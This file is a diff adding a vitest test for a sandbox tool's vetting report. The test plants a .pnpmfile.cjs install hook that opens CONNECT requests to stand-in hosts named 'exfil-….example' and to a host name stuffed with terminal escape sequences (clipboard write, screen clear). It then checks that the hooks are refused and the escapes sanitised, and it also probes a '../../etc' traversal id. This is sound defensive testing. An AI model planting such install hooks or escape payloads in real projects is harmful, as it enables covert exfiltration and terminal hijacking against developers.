@@ -1,0 +1,121 @@
+// The vetting report (issue 29, first slice) through the bin and the MCP server: a repository whose
+// install code asks the egress gateway for refused places, one named with terminal escapes. The
+// report lists each refusal of the install, and no escape of the repository's reaches the terminal.
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { hasControlCharacter } from '@ca-sandbox/docker/contracts';
+import { Client } from '@modelcontextprotocol/sdk/client/index.js';
+import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { SandboxReportSchema } from '../../lifecycle/dist/report.js';
+import { BIN, cli, destroyBox, labeledLeft, uniqueName } from './_harness.js';
+
+const marker = `r${Date.now().toString(36)}`;
+// Install-time code: raw CONNECTs to the proxy the install is given (each refused: not a registry).
+const ASK = `
+const net = require('net');
+const proxy = new URL(process.env.HTTPS_PROXY || process.env.https_proxy);
+const ask = (target) => new Promise((done) => {
+  const s = net.connect({ host: proxy.hostname, port: Number(proxy.port) });
+  s.setTimeout(5000, () => { s.destroy(); done(); });
+  s.on('connect', () => s.write('CONNECT ' + target + ' HTTP/1.1\\r\\nHost: ' + target + '\\r\\n\\r\\n'));
+  s.on('data', () => { s.destroy(); done(); });
+  s.on('error', () => done());
+});
+(async () => {
+  await ask('exfil-${marker}.example:443');
+  await ask('esc-${marker}.example\\u001b]52;c;aGk=\\u0007\\u001b[2J:443');
+})();
+`;
+
+let work: string;
+let id: string;
+
+beforeAll(async () => {
+  work = await mkdtemp(join(tmpdir(), 'ca-hostile-report-'));
+  const repo = join(work, 'repo');
+  const { mkdir } = await import('node:fs/promises');
+  await mkdir(repo);
+  await writeFile(
+    join(repo, 'package.json'),
+    JSON.stringify({ name: 'report', version: '1.0.0', private: true, packageManager: 'pnpm@9.15.9' }),
+  );
+  await writeFile(
+    join(repo, '.pnpmfile.cjs'),
+    `require('node:child_process').execFileSync(process.execPath, ['-e', ${JSON.stringify(ASK)}], { stdio: 'inherit' });\nmodule.exports = {};\n`,
+  );
+  id = uniqueName('report');
+  const created = await cli(['create', repo, '--json', '--name', id, '--network', 'clone-then-cut']);
+  expect(created.exitCode, created.stderr).toBe(0);
+}, 600_000);
+
+afterAll(async () => {
+  if (id) await destroyBox(id);
+  await rm(work, { recursive: true, force: true });
+});
+
+describe('ca-sandbox report', () => {
+  it('--json: the versioned structure, every refusal of the install, the gate re-run', async () => {
+    const result = await cli(['report', id, '--json']);
+    expect(result.exitCode, result.stderr).toBe(0);
+    const report = SandboxReportSchema.parse(JSON.parse(result.stdout));
+    expect(report).toMatchObject({ version: 1, id, status: 'running' });
+    expect(report.network).toMatchObject({ policy: 'clone-then-cut', boxEgress: 'none' });
+    const refused = report.network.decisions.filter(
+      (row) => !row.allowed && row.destination.includes(marker),
+    );
+    expect(refused).toContainEqual({
+      phase: 'install',
+      destination: `exfil-${marker}.example:443`,
+      allowed: false,
+      count: 1,
+    });
+    // Refusals come first; whatever squid logged of the request with escapes is printable text only.
+    expect(report.network.decisions[0]?.allowed).toBe(false);
+    for (const row of report.network.decisions) expect(hasControlCharacter(row.destination)).toBe(false);
+    expect(report.network.refused).toBeGreaterThanOrEqual(1);
+    expect(report.isolation.ok).toBe(true);
+    expect(report.isolation.checks.length).toBeGreaterThan(20);
+    expect(report.notRecorded.length).toBeGreaterThan(0);
+  });
+
+  it('the terminal page: the refusals listed, no escape of the repository', async () => {
+    const result = await cli(['report', id]);
+    expect(result.exitCode, result.stderr).toBe(0);
+    expect(result.stdout).toMatch(new RegExp(`install\\s+REFUSED\\s+exfil-${marker}\\.example:443`));
+    expect(result.stdout).toMatch(/isolation {2}\d+ checks passed \(re-run now\)/);
+    for (const line of `${result.stdout}\n${result.stderr}`.split('\n'))
+      expect(hasControlCharacter(line), JSON.stringify(line)).toBe(false);
+  });
+
+  it('MCP sandbox_report gives the same structure', async () => {
+    const client = new Client({ name: 'report-test', version: '0.0.0' }, { capabilities: {} });
+    await client.connect(new StdioClientTransport({ command: process.execPath, args: [BIN, 'mcp'] }));
+    try {
+      const answer = (await client.callTool({ name: 'sandbox_report', arguments: { id } })) as {
+        isError?: boolean;
+        structuredContent?: unknown;
+      };
+      expect(answer.isError).toBeFalsy();
+      const report = SandboxReportSchema.parse(answer.structuredContent);
+      expect(report.network.decisions.some((row) => row.destination.includes(`exfil-${marker}`))).toBe(true);
+      const missing = (await client.callTool({
+        name: 'sandbox_report',
+        arguments: { id: 'no-such-box-x' },
+      })) as {
+        isError?: boolean;
+      };
+      expect(missing.isError).toBe(true);
+    } finally {
+      await client.close();
+    }
+  });
+
+  it('a bad id is a usage error (exit 2), no stack', async () => {
+    const result = await cli(['report', '../../etc']);
+    expect(result.exitCode).toBe(2);
+    expect(result.stderr).not.toMatch(/\n\s+at /);
+    expect(await labeledLeft('../../etc').catch(() => [])).toEqual([]);
+  });
+});
